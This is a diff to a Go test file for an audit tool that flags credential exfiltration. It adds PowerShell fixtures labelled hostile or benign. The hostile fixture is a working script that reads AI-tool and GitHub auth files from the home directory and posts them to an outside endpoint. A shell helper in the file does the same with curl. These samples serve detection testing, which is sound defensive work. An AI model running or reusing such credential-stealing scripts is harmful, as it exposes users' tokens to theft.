@@ -14,7 +14,8 @@ import (
 // script it sources or imports) is credential-exfil, critical, in every
 // language the audit reads; the list alone, a list the script never
 // names, a send with no such list, public keys and project-relative
-// paths in a program that never joins them to home are not.
+// paths in a program that never joins them to home are not. A PowerShell
+// data file (.psd1, loaded with Import-PowerShellDataFile) is such a list.
 func TestListedCredentials(t *testing.T) {
 	crit, none := audit.Critical, audit.SeverityNone
 	shLib := "inspect() { f=\"$HOME/$1\"; [ -r \"$f\" ] && printf '%s\\t%s\\n' \"$1\" \"$(base64 < \"$f\" | tr -d '\\n')\"; }\nsend() { curl -fsS -X POST --data-binary @- \"$API\"; }\n"
@@ -49,6 +50,12 @@ func TestListedCredentials(t *testing.T) {
 			"scripts/backup.py": "import os, tarfile, requests, yaml\ncfg = yaml.safe_load(open(os.path.join(os.path.dirname(__file__), '..', 'config', 'backup.yaml')))\nwith tarfile.open('/tmp/b.tgz', 'w:gz') as t:\n    for p in cfg['include']:\n        t.add(os.path.expanduser(p))\nrequests.put('https://b.example/u', data=open('/tmp/b.tgz', 'rb'))\n"}, crit},
 		"benign/sandbox-deny-list": {map[string]string{"policy.json": "{\n  \"deny_read\": [\"~/.ssh\", \"~/.aws/credentials\", \"~/.netrc\"]\n}\n",
 			"scripts/run.js": "const fs = require('fs');\nconst policy = JSON.parse(fs.readFileSync(__dirname + '/../policy.json', 'utf8'));\nfetch('https://api.example/v1/run', { method: 'POST', body: JSON.stringify({ policy }) });\n"}, none},
+		"hostile/ps1-psd1-list": {map[string]string{"config/sources.psd1": "@{\n    Endpoint = @{ Uri = 'https://usage.example/api/ingest' }\n    Identity = @(\n        @{ Tool = 'a'; Path = '.codex/auth.json' }\n        @{ Tool = 'b'; Path = '.config/gh/hosts.yml' }\n    )\n}\n",
+			"scripts/Get-Usage.ps1": "$Root = Split-Path -Parent $PSScriptRoot\n$Config = Import-PowerShellDataFile (Join-Path $Root 'config/sources.psd1')\n$HomeDir = [Environment]::GetFolderPath('UserProfile')\n\nfunction Get-Identity {\n    $ids = @{}\n    foreach ($i in $Config.Identity) {\n        $p = Join-Path $HomeDir $i.Path\n        if (Test-Path -LiteralPath $p) { $ids[$i.Tool] = Get-Content -LiteralPath $p -Raw }\n    }\n    $ids\n}\n\nfunction Send-Usage {\n    $body = @{ identity = Get-Identity } | ConvertTo-Json -Depth 4\n    Invoke-RestMethod -Method Post -Uri $Config.Endpoint.Uri -Body $body -ContentType 'application/json'\n}\n\nSend-Usage\n"}, crit},
+		"benign/ps1-psd1-perms-no-send": {map[string]string{"config/keys.psd1": "@{\n    Check = @('.ssh/id_ed25519', '.aws/credentials')\n}\n",
+			"scripts/Test-KeyAcl.ps1": "$Config = Import-PowerShellDataFile (Join-Path $PSScriptRoot '../config/keys.psd1')\nforeach ($k in $Config.Check) {\n    $p = Join-Path $HOME $k\n    if (Test-Path $p) { Get-Acl $p | Select-Object Path, Owner }\n}\n"}, none},
+		"benign/ps1-psd1-excluded": {map[string]string{"config/backup.psd1": "@{\n    Include = @('Documents', 'Projects')\n    Exclude = @('.ssh/id_ed25519', '.aws/credentials')\n    Target = 'https://backup.example/upload'\n}\n",
+			"scripts/Backup.ps1": "$Config = Import-PowerShellDataFile (Join-Path $PSScriptRoot '../config/backup.psd1')\n$files = foreach ($d in $Config.Include) { Get-ChildItem -Recurse (Join-Path $HOME $d) }\nforeach ($f in $files) { Invoke-RestMethod -Method Put -Uri $Config.Target -InFile $f.FullName }\n"}, none},
 		"benign/project-relative-no-home": {map[string]string{"ci/files.txt": ".docker/config.json\n",
 			"scripts/up.sh": "#!/bin/sh\nwhile read -r f; do cat \"$f\"; done < ci/files.txt | curl -fsS --data-binary @- https://ci.example/lint\n"}, none},
 	})
